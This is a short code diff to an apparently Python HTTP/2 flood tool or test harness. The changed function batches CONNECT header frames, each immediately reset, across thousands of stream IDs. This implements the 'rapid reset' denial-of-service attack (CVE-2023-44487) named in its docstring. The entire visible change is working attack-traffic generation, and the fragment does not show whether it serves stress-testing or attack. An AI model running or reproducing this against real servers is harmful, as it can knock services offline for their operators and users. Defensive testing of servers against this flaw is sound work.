@@ -71,10 +71,15 @@ def frame(kind, flags=0, stream=0, payload=b""):
 
 
 def connects(peer, reset):
-    """Yield CONNECTs, each reset at once: "rapid reset" (CVE-2023-44487)."""
-    for stream in range(1, 40001, 2):
-        block = peer.h2.encoder.encode(CONNECT)
-        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST, 0, stream, reset)
+    """Return CONNECTs, each reset at once: "rapid reset" (CVE-2023-44487)."""
+    return [
+        b"".join(
+            frame(HEADERS, END_HEADERS, stream, peer.h2.encoder.encode(CONNECT))
+            + frame(RST, 0, stream, reset)
+            for stream in range(first, first + 200, 2)
+        )
+        for first in range(1, 12001, 200)
+    ]
 
 
 FLOODS = {
